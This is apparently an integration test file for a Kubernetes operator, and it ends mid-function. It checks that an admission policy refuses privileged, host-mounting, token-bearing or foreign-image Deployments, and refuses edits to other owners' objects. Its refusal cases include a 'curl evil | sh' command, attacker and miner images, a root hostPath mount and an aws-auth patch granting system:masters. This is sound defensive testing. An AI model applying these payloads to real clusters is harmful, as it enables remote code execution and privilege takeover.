package operatorpower

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/cantus-dev/cantus-operator/internal/saissuer"
	"github.com/cantus-dev/cantus-operator/internal/testkit"
)

// grantClusterRole applies config/rbac: the operator's ClusterRole of the cluster-wide mode
// and its binding to the operator's service account.
func grantClusterRole(t *testing.T) {
	t.Helper()
	rendered, err := kubectl(nil, "kustomize", filepath.Join(root, "config", "rbac"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := kubectl([]byte(rendered), "apply", "--server-side", "-f", "-"); err != nil {
		t.Fatal(err)
	}
}

// controlledBy is a controller reference to a cantus.dev object of kind and name.
// actorTokenVolume projects the pod's service-account token for audience, as a
// gateway's actor token (render's File.ServiceAccountTokenAudience).
func actorTokenVolume(audience string, seconds int64) corev1.Volume {
	return corev1.Volume{Name: "actor", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{{
		ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Audience: audience, ExpirationSeconds: ptr.To(seconds), Path: "tickets/actor-token"},
	}}}}}
}

func controlledBy(kind, name string) []metav1.OwnerReference {
	return []metav1.OwnerReference{{APIVersion: "cantus.dev/v1alpha1", Kind: kind, Name: name,
		UID: "00000000-0000-0000-0000-000000000001", Controller: ptr.To(true)}}
}

// restrictedDeployment is shaped like the adapter Deployments the operator renders
// (internal/workload): restricted profile, no token, the adapter image running /adapter,
// controlled by the SkillServer it is named after.
func restrictedDeployment(namespace, name string) *appsv1.Deployment {
	selector := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
	labels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator"}
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{
			"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator",
		}, OwnerReferences: controlledBy("SkillServer", name)},
		Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: selector},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{
					AutomountServiceAccountToken: ptr.To(false),
					SecurityContext: &corev1.PodSecurityContext{
						RunAsNonRoot:   ptr.To(true),
						RunAsUser:      ptr.To[int64](65532),
						RunAsGroup:     ptr.To[int64](65532),
						FSGroup:        ptr.To[int64](65532),
						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
					},
					Containers: []corev1.Container{{
						Name:    "adapter",
						Image:   adapterImage,
						Command: []string{"/adapter"},
						Args:    []string{"serve", "--config", "/etc/cantus/config.json"},
						SecurityContext: &corev1.SecurityContext{
							AllowPrivilegeEscalation: ptr.To(false),
							ReadOnlyRootFilesystem:   ptr.To(true),
							RunAsNonRoot:             ptr.To(true),
							Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
						},
						VolumeMounts: []corev1.VolumeMount{{Name: "config", MountPath: "/etc/cantus", ReadOnly: true}},
					}},
					Volumes: []corev1.Volume{{Name: "config", VolumeSource: corev1.VolumeSource{
						ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: name + "-adapter"}},
					}}},
				},
			},
		},
	}
}

// bridged turns d into a stdio bridge's Deployment: the install container of the adapter
// image, the import's image running the copied-in adapter, controlled by the import.
func bridged(d *appsv1.Deployment) {
	d.OwnerReferences = controlledBy("RemoteToolImport", strings.TrimSuffix(d.Name, "-bridge"))
	pod := &d.Spec.Template.Spec
	d.Spec.Template.Labels["app.kubernetes.io/component"] = "stdio-bridge"
	install := pod.Containers[0]
	install.Name, install.Args, install.VolumeMounts = "install-bridge", []string{"bridge", "--install-to", "/cantus/adapter"}, []corev1.VolumeMount{{Name: "cantus-bin", MountPath: "/cantus"}}
	main := *install.DeepCopy()
	main.Name, main.Image, main.Command, main.Args = "bridge", "example.test/mcp/server:v1", []string{"/cantus/adapter", "bridge", "--port", "8765", "--", "server"}, nil
	pod.InitContainers, pod.Containers = []corev1.Container{install}, []corev1.Container{main}
	pod.Volumes = []corev1.Volume{{Name: "cantus-bin", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}}
}

func createNamespace(t *testing.T, name string) {
	t.Helper()
	if err := admin.Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}); err != nil {
		t.Fatal(err)
	}
}

// waitForPolicy waits until the API server enforces the policy (it loads policies and
// their parameters from informers, so a new policy takes a moment).
func waitForPolicy(t *testing.T, namespace string) {
	t.Helper()
	testkit.Eventually(t, 30*time.Second, "the admission policy to refuse a hostNetwork Deployment by the operator", func() error {
		d := restrictedDeployment(namespace, "probe")
		d.Spec.Template.Spec.HostNetwork = true
		err := operator.Create(context.Background(), d, client.DryRunAll)
		if err != nil && strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
			return nil
		}
		return fmt.Errorf("the dry run gave %w", err)
	})
}

// The operator's service account, whose ClusterRole may create Deployments anywhere,
// cannot create one that leaves the restricted profile, mounts the host or a token, or
// runs another image; the cluster admin still can, and what the operator renders passes.
func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "tenant-vap")
	waitForPolicy(t, "tenant-vap")

	if err := operator.Create(ctx, restrictedDeployment("tenant-vap", "adapter")); err != nil {
		t.Fatalf("the operator's own shape of adapter Deployment is refused: %v", err)
	}
	bridge := restrictedDeployment("tenant-vap", "srv-bridge")
	bridged(bridge)
	if err := operator.Create(ctx, bridge); err != nil {
		t.Fatalf("the operator's own shape of stdio bridge Deployment is refused: %v", err)
	}

	// A gateway's actor token for a token endpoint's own audience is the one token its
	// pods may have.
	withActor := restrictedDeployment("tenant-vap", "gw")
	withActor.Spec.Template.Spec.Volumes = append(withActor.Spec.Template.Spec.Volumes, actorTokenVolume("sts.example", 3600))
	if err := operator.Create(ctx, withActor, client.DryRunAll); err != nil {
		t.Errorf("a gateway with an actor token for sts.example is refused: %v", err)
	}

	container := func(d *appsv1.Deployment) *corev1.Container { return &d.Spec.Template.Spec.Containers[0] }
	cases := []struct {
		name   string
		bridge bool
		mutate func(*appsv1.Deployment)
		want   string
	}{
		{name: "privileged", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.Privileged = ptr.To(true)
			container(d).SecurityContext.AllowPrivilegeEscalation = nil // the API server refuses both
		}, want: "restricted profile"},
		{name: "privilege escalation", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.AllowPrivilegeEscalation = ptr.To(true) }, want: "restricted profile"},
		{name: "capabilities kept", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.Capabilities = nil }, want: "restricted profile"},
		{name: "capability added", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN"}
		}, want: "restricted profile"},
		{name: "container as root", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.RunAsUser = ptr.To[int64](0)
			container(d).SecurityContext.RunAsNonRoot = nil
		}, want: "restricted profile"},
		{name: "host port", mutate: func(d *appsv1.Deployment) {
			container(d).Ports = []corev1.ContainerPort{{ContainerPort: 8765, HostPort: 8765}}
		}, want: "restricted profile"},
		{name: "pod may run as root", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsNonRoot = nil }, want: "non-root"},
		{name: "seccomp unconfined", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.SecurityContext.SeccompProfile.Type = corev1.SeccompProfileTypeUnconfined
		}, want: "RuntimeDefault"},
		{name: "host network", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostNetwork = true }, want: "host's network"},
		{name: "host PID", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostPID = true }, want: "host's network, PID"},
		{name: "host IPC", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.HostIPC = true }, want: "host's network, PID or IPC"},
		{name: "hostPath", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "root",
				VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}, want: "volumes the operator does not mount"},
		{name: "projected token", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "token",
				VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{{
					ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"},
				}}}}})
		}, want: "Secrets): token"},
		{name: "projected token for the API server", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, actorTokenVolume("https://kubernetes.default.svc", 3600))
		}, want: "Secrets): actor"},
		{name: "projected token for a SkillServer", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, actorTokenVolume("gw.team.skillserver.cantus.dev", 3600))
		}, want: "Secrets): actor"},
		{name: "projected token living long", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, actorTokenVolume("sts.example", 86400))
		}, want: "Secrets): actor"},
		{name: "bridge with an actor token", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, actorTokenVolume("sts.example", 3600))
		}, want: "Secrets): actor"},
		{name: "token mounted", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = ptr.To(true) }, want: "service account token"},
		{name: "token mounted by default", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil }, want: "service account token"},
		{name: "another image", mutate: func(d *appsv1.Deployment) { container(d).Image = "example.test/miner:latest" }, want: "adapter (example.test/miner:latest)"},
		{name: "adapter image, another program", mutate: func(d *appsv1.Deployment) { container(d).Command = []string{"/manager"} }, want: "do not run /adapter"},
		{name: "priority class", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.PriorityClassName = "system-cluster-critical" }, want: "priorityClassName"},
		{name: "bridge with a foreign init container", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers[0].Image = "example.test/miner:latest"
		}, want: "install-bridge (example.test/miner:latest)"},
		{name: "bridge with a second container", bridge: true, mutate: func(d *appsv1.Deployment) {
			extra := d.Spec.Template.Spec.Containers[0]
			extra.Name = "sidecar"
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, extra)
		}, want: "sidecar"},
		{name: "bridge not running the adapter", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
		}, want: "bridge (example.test/mcp/server:v1)"},
		// Issue 39, R11: what the policy left open.
		{name: "another user", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsUser = ptr.To[int64](999) }, want: "user and group 65532"},
		{name: "another group", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.RunAsGroup = ptr.To[int64](0) }, want: "user and group 65532"},
		{name: "container as another user", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.RunAsUser = ptr.To[int64](999) }, want: "restricted profile"},
		{name: "container in another group", mutate: func(d *appsv1.Deployment) { container(d).SecurityContext.RunAsGroup = ptr.To[int64](0) }, want: "restricted profile"},
		{name: "another fsGroup", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.FSGroup = ptr.To[int64](999) }, want: "user and group 65532"},
		{name: "supplemental groups", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SecurityContext.SupplementalGroups = []int64{0} }, want: "no supplemental groups"},
		{name: "SELinux options", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{Type: "spc_t"}
		}, want: "SELinux"},
		{name: "container AppArmor unconfined", mutate: func(d *appsv1.Deployment) {
			container(d).SecurityContext.AppArmorProfile = &corev1.AppArmorProfile{Type: corev1.AppArmorProfileTypeUnconfined}
		}, want: "restricted profile"},
		{name: "a service account not listed", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "cloud-admin" }, want: "tenant-vap/cloud-admin is not in serviceAccounts"},
		{name: "another app's claim", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "data",
				VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-postgres-0"}}})
		}, want: "volumes the operator does not mount"},
		{name: "unbounded memory emptyDir", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "ram",
				VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: corev1.StorageMediumMemory}}})
		}, want: "volumes the operator does not mount"},
		{name: "node selector", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}, want: "never places"},
		{name: "tolerations", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
		}, want: "never places"},
		{name: "affinity", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
				NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchFields: []corev1.NodeSelectorRequirement{{Key: "metadata.name", Operator: corev1.NodeSelectorOpIn, Values: []string{"n1"}}}}},
			}}}
		}, want: "never places"},
		{name: "node name", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.NodeName = "n1" }, want: "never places"},
		{name: "scheduler", mutate: func(d *appsv1.Deployment) { d.Spec.Template.Spec.SchedulerName = "mine" }, want: "never places"},
		{name: "host aliases", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.HostAliases = []corev1.HostAlias{{IP: "203.0.113.7", Hostnames: []string{"kubernetes.default.svc"}}}
		}, want: "hostAliases"},
		{name: "DNS config", mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"203.0.113.53"}}
		}, want: "dnsConfig"},
		{name: "pods without the operator's label", mutate: func(d *appsv1.Deployment) {
			delete(d.Spec.Template.Labels, "app.kubernetes.io/managed-by")
		}, want: "pod templates carry"},
		{name: "bridge of an image not in bridgeImages", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Image = "attacker.test/x:1"
		}, want: "bridge (attacker.test/x:1)"},
		{name: "bridge of an image only sharing a prefix", bridge: true, mutate: func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Image = "example.test/mcp-evil/server:v1"
		}, want: "bridge (example.test/mcp-evil/server:v1)"},
	}
	// The restricted-workloads binding selects the operator's label; dropping the label
	// does not take a Deployment out of its reach, own-objects refuses it first.
	unlabelled := restrictedDeployment("tenant-vap", "unlabelled")
	delete(unlabelled.Labels, "app.kubernetes.io/managed-by")
	unlabelled.Spec.Template.Spec.HostNetwork = true
	if err := operator.Create(ctx, unlabelled, client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
		t.Fatalf("the operator created an unlabelled hostNetwork Deployment: %v, want refused by cantus-operator-own-objects", err)
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := restrictedDeployment("tenant-vap", "forbidden")
			if tc.bridge {
				d = restrictedDeployment("tenant-vap", "forbidden-bridge")
				bridged(d)
			}
			tc.mutate(d)
			err := operator.Create(ctx, d, client.DryRunAll)
			if err == nil {
				t.Fatal("the operator created the Deployment")
			}
			if !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("refused for another reason than %q: %v", tc.want, err)
			}
			// The same change to an existing Deployment is refused too (the operator
			// patches; it may not update).
			live := restrictedDeployment("tenant-vap", "adapter")
			if tc.bridge {
				live = restrictedDeployment("tenant-vap", "srv-bridge")
				bridged(live)
			}
			if err := operator.Get(ctx, client.ObjectKeyFromObject(live), live); err != nil {
				t.Fatal(err)
			}
			before := live.DeepCopy()
			tc.mutate(live)
			if err := operator.Patch(ctx, live, client.MergeFrom(before), client.DryRunAll); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("the operator's update was not refused for %q: %v", tc.want, err)
			}
			// The policy binds the operator only: the admin decides for itself.
			if err := admin.Create(ctx, d, client.DryRunAll); err != nil {
				t.Fatalf("the admin's Deployment is refused: %v", err)
			}
		})
	}
}

// The operator may write ConfigMaps everywhere, but not the parameters of its own policy:
// they are not its own (cantus-operator-own-objects), and even labelled as its own (a
// kustomize commonLabels, say) they stay out of reach (cantus-operator-admission-params).
func TestOperatorCannotRewriteItsAdmissionParameters(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	waitForPolicy(t, operatorNamespace)
	key := client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}
	// refusedBy says whether err is a refusal by one of policies.
	refusedBy := func(err error, policies ...string) bool {
		return err != nil && slices.ContainsFunc(policies, func(p string) bool { return strings.Contains(err.Error(), p) })
	}
	tryToRewrite := func(policies ...string) {
		t.Helper()
		params := &corev1.ConfigMap{}
		if err := operator.Get(ctx, key, params); err != nil {
			t.Fatal(err)
		}
		before := params.DeepCopy()
		params.Data["adapterImages"] += ",example.test/miner:latest"
		if err := operator.Patch(ctx, params, client.MergeFrom(before), client.DryRunAll); !refusedBy(err, policies...) {
			t.Fatalf("the operator widened its own adapter images: %v, want refused by %v", err, policies)
		}
		if err := operator.Delete(ctx, params, client.DryRunAll); !refusedBy(err, policies...) {
			t.Fatalf("the operator deleted its policy's parameters: %v, want refused by %v", err, policies)
		}
	}
	// Both policies refuse it; the API server names the first that did.
	tryToRewrite("cantus-operator-own-objects", "cantus-operator-admission-params")

	params := &corev1.ConfigMap{}
	if err := admin.Get(ctx, key, params); err != nil {
		t.Fatal(err)
	}
	before := params.DeepCopy()
	params.Labels["app.kubernetes.io/managed-by"] = "cantus-operator"
	if err := admin.Patch(ctx, params, client.MergeFrom(before)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		labelled := &corev1.ConfigMap{}
		if err := admin.Get(ctx, key, labelled); err == nil {
			delete(labelled.Labels, "app.kubernetes.io/managed-by")
			_ = admin.Update(ctx, labelled)
		}
	})
	tryToRewrite("cantus-operator-own-objects", "cantus-operator-admission-params")

	state := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "cantus-operator-revocations",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}}}
	if err := operator.Create(ctx, state, client.DryRunAll); err != nil {
		t.Fatalf("the operator may not write its own state: %v", err)
	}
}

// The operator's RBAC lets it patch and delete ConfigMaps, Services and NetworkPolicies
// everywhere; the policy lets it touch only those labelled as its own, create only
// labelled ones, and open no Service beyond ClusterIP.
func TestOperatorWritesOnlyItsOwnObjects(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "platform")
	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}

	// The admin's objects: a ConfigMap that maps cloud roles to cluster users, a
	// default-deny NetworkPolicy, another app's Service.
	authMap := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "aws-auth"}, Data: map[string]string{"mapRoles": "[]"}}
	denyAll := &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "default-deny"},
		Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}}}
	billing := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "billing"},
		Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "billing"}, Ports: []corev1.ServicePort{{Port: 80}}}}
	mine := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "srv-adapter", Labels: own}}
	// RBAC lets the operator update Secrets (a stdio bridge's token): only this policy
	// keeps it off the admin's.
	registry := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "registry-bridge"}, StringData: map[string]string{"token": "admin's"}}
	for _, obj := range []client.Object{authMap, denyAll, billing, mine, registry} {
		if err := admin.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
	}

	// The policy loads through informers: wait until the first refusal shows.
	testkit.Eventually(t, 30*time.Second, "deleting the admin's NetworkPolicy as the operator to be refused by cantus-operator-own-objects", func() error {
		err := operator.Delete(ctx, denyAll.DeepCopy(), client.DryRunAll)
		if err != nil && strings.Contains(err.Error(), "cantus-operator-own-objects") {
			return nil
		}
		return fmt.Errorf("the dry run gave %w", err)
	})

	refused := func(what string, err error, want string) {
		t.Helper()
		if err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want refused by cantus-operator-own-objects saying %q", what, err, want)
		}
	}
	patched := authMap.DeepCopy()
	patched.Data["mapRoles"] = "- rolearn: arn:aws:iam::1:role/x\n  groups: [system:masters]"
	refused("patch the admin's ConfigMap", operator.Patch(ctx, patched, client.MergeFrom(authMap), client.DryRunAll), "platform/aws-auth is not its own")
	refused("delete the admin's ConfigMap", operator.Delete(ctx, authMap.DeepCopy(), client.DryRunAll), "is not its own")
	stolen := registry.DeepCopy()
	stolen.StringData = map[string]string{"token": "the operator's"}
	refused("update the admin's Secret", operator.Update(ctx, stolen, client.DryRunAll), "platform/registry-bridge is not its own")
	hijacked := billing.DeepCopy()
	hijacked.Spec.Selector = map[string]string{"app.kubernetes.io/name": "cantus-adapter"}
	refused("repoint another app's Service", operator.Patch(ctx, hijacked, client.MergeFrom(billing), client.DryRunAll), "platform/billing is not its own")
	unlabelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new"}}
	refused("create an unlabelled ConfigMap", operator.Create(ctx, unlabelled, client.DryRunAll), "must carry the label")
	unmarked := mine.DeepCopy()
	unmarked.Labels = map[string]string{"app": "x"}
	refused("drop its own label", operator.Patch(ctx, unmarked, client.MergeFrom(mine), client.DryRunAll), "must carry the label")
	for name, spec := range map[string]corev1.ServiceSpec{
		"NodePort":    {Type: corev1.ServiceTypeNodePort, Ports: []corev1.ServicePort{{Port: 80}}},
		"externalIPs": {ExternalIPs: []string{"203.0.113.7"}, Ports: []corev1.ServicePort{{Port: 80}}},
	} {
		svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "open", Labels: own,
			OwnerReferences: controlledBy("SkillServer", "open")}, Spec: spec}
		refused("a "+name+" Service", operator.Create(ctx, svc, client.DryRunAll), "ClusterIP")
	}

	// Its own objects stay its to write and delete.
	labelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "platform", Name: "new-adapter", Labels: own,
		OwnerReferences: controlledBy("SkillServer", "new")}}
	if err := operator.Create(ctx, labelled, client.DryRunAll); err != nil {
		t.Errorf("create a labelled ConfigMap: %v", err)
	}
	if err := operator.Delete(ctx, mine.DeepCopy(), client.DryRunAll); err != nil {
		t.Errorf("delete its own ConfigMap: %v", err)
	}
	if err := admin.Delete(ctx, denyAll.DeepCopy(), client.DryRunAll); err != nil {
		t.Errorf("the admin may still delete its NetworkPolicy: %v", err)
	}
}

// Without its parameters the restricted-workloads policy refuses the Deployments labelled
// as the operator's (it fails closed) and nobody else's: the API server resolves a binding's
// parameters before its matchConditions, so an unscoped binding would stop every
// Deployment write in the cluster while the ConfigMap is gone (a namespace deleted, the
// moment of a helm uninstall between the ConfigMap and the binding).
func TestMissingAdmissionParametersRefuseOnlyTheOperator(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "tenant-noparams")
	waitForPolicy(t, "tenant-noparams")

	key := client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}
	params := &corev1.ConfigMap{}
	if err := admin.Get(ctx, key, params); err != nil {
		t.Fatal(err)
	}
	if err := admin.Delete(ctx, params); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		restored := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name,
			Labels: params.Labels, Annotations: params.Annotations}, Data: params.Data}
		if err := admin.Create(context.Background(), restored); err != nil {
			t.Errorf("restoring the admission parameters: %v", err)
		}
		waitForImagesAllowed(t, "tenant-noparams")
	})

	// The API server learns of the deletion through an informer: wait until the
	// operator's own Deployment is refused for want of parameters.
	var refusal error
	testkit.Eventually(t, 30*time.Second, "the operator's Deployment to be refused once its policy's parameters were deleted", func() error {
		refusal = operator.Create(ctx, restrictedDeployment("tenant-noparams", "adapter"), client.DryRunAll)
		if refusal != nil && strings.Contains(refusal.Error(), "cantus-operator-restricted-workloads") {
			return nil
		}
		return fmt.Errorf("the dry run gave %w", refusal)
	})
	t.Logf("the operator without parameters: %v", refusal)

	someoneElses := restrictedDeployment("tenant-noparams", "web")
	someoneElses.Labels = map[string]string{"app.kubernetes.io/name": "web"}
	if err := admin.Create(ctx, someoneElses, client.DryRunAll); err != nil {
		t.Fatalf("the admin's Deployment is refused while the operator's parameters are missing: %v", err)
	}
	// What still waits for the parameters is what claims to be the operator's: the
	// binding cannot see who writes before it has them.
	labelledByAdmin := restrictedDeployment("tenant-noparams", "labelled")
	if err := admin.Create(ctx, labelledByAdmin, client.DryRunAll); err == nil {
		t.Fatal("a Deployment labelled managed-by=cantus-operator was admitted without the policy's parameters; the binding no longer fails closed")
	}
}

// waitForImagesAllowed waits until the operator's own shape of Deployment is admitted
// again (the restored parameters reached the API server's informer).
func waitForImagesAllowed(t *testing.T, namespace string) {
	t.Helper()
	testkit.Eventually(t, 30*time.Second, "the operator's Deployment to be admitted after the parameters were restored", func() error {
		return operator.Create(context.Background(), restrictedDeployment(namespace, "adapter"), client.DryRunAll)
	})
}

// The review's exploit (issue 39, R11): with the operator's credentials, a Deployment in
// another application's namespace, labelled as the operator's and shaped like a stdio
// bridge, running an image of the attacker's as UID 999 with that application's
// PersistentVolumeClaim mounted and a cloud identity's service account. Every part of it
// is refused on its own.
func TestOperatorCredentialsCannotRunTheReviewsExploit(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "prod-db")
	waitForPolicy(t, "prod-db")

	// exploit is the review's Deployment with the parts named in parts.
	exploit := func(parts ...string) *appsv1.Deployment {
		d := restrictedDeployment("prod-db", "x-bridge")
		bridged(d)
		pod := &d.Spec.Template.Spec
		for _, part := range parts {
			switch part {
			case "image":
				pod.Containers[0].Image = "attacker.test/x:1"
			case "uid":
				pod.SecurityContext.RunAsUser = ptr.To[int64](999)
			case "account":
				pod.ServiceAccountName = "irsa-admin"
			case "claim":
				pod.Volumes = append(pod.Volumes, corev1.Volume{Name: "data", VolumeSource: corev1.VolumeSource{
					PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-postgres-0"}}})
				pod.Containers[0].VolumeMounts = append(pod.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "data", MountPath: "/data"})
			}
		}
		return d
	}
	all := []string{"image", "uid", "account", "claim"}
	if err := operator.Create(ctx, exploit(all...), client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
		t.Fatalf("the operator created the review's exploit Deployment: %v", err)
	}
	for _, part := range all {
		if err := operator.Create(ctx, exploit(part), client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-restricted-workloads") {
			t.Errorf("the operator created a bridge Deployment with only the %s of the exploit: %v", part, err)
		}
	}
	if err := operator.Create(ctx, exploit(), client.DryRunAll); err != nil {
		t.Fatalf("the bridge without the exploit's parts is refused, so the parts prove nothing: %v", err)
	}
}

// The operator creates only what its owners name (issue 39, R11): a ConfigMap of a name no
// SkillServer gives (a missing one some component reads, coredns-custom), an allow-all
// NetworkPolicy, a Service or claim of another name than its controller's are refused,
// labelled as its own or not.
func TestOperatorCreatesOnlyTheNamesItsOwnersGive(t *testing.T) {
	ctx := context.Background()
	grantClusterRole(t)
	createNamespace(t, "names")
	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}
	meta := func(namespace, name string, owner []metav1.OwnerReference) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: own, OwnerReferences: owner}
	}
	allowAll := networkingv1.NetworkPolicySpec{
		PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress},
